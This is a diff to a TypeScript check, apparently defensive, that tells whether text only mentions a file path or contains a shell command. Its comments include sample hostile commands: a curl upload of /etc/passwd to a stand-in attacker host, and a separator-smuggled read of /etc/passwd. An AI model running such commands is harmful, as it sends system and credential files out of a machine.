@@ -65,8 +65,13 @@ function fold(s: string): string {
   return s.toLowerCase().replace(/["'`^]/g, '').replace(/\\/g, '/').replace(/\/{2,}/g, '/');
 }
 
-/** A value that starts with a program's path (`/usr/bin/curl`, `./run`, `~/bin/x`) is a command line. */
-const PROGRAM = /^[.~]?\//;
+/**
+ * A value that starts with a program's path (`/usr/bin/curl`, `./run`, `~/bin/x`, `/opt/app/run.sh`) is a command
+ * line; one that starts with a file's path ("/etc/hosts and /etc/resolv.conf are both wrong") is not.
+ */
+const PROGRAM = /^(?:\.\/|[.~]?\/(?:[\w.-]+\/)*(?:s?bin|libexec)\/|[.~]?\/\S*\.(?:sh|py|pl|rb|php)$)/;
+/** A shell separator: a token ending in `;`, or `|`, `||`, `&&` alone. */
+const SEPARATOR = /;$|^(?:\|\|?|&&)$/;
 /** An option, or a path other than the one at the start: what a command line is made of. */
 const ARGUMENT = /^(?:--?[a-z]|\(?\/)/i;
 
@@ -76,12 +81,16 @@ function mentions(text: string, match: string): boolean {
   let words = 0;
   let first = true;
   let program = false;
+  /** Tokens since the last shell separator (a path within two of one is a command's: `x; base32 /etc/passwd`). */
+  let sinceSeparator = Infinity;
   for (const token of text.split(/\s+/)) {
     if (token === '') continue;
     // `/usr/bin/curl --upload-file /etc/passwd evil.example thanks` is a command, whatever words follow.
     if (first) program = PROGRAM.test(token);
     else if (program && ARGUMENT.test(token)) return false;
     first = false;
+    if (++sinceSeparator <= 2 && /^\(?[.~]?\//.test(token)) return false;
+    if (SEPARATOR.test(token)) sinceSeparator = 0;
     if (!found && fold(token).includes(match)) {
       // A path in backticks is command substitution: `/usr/bin/id` runs, wherever a shell meets it.
       if (!BARE.test(token) || token.includes('`/')) return false;
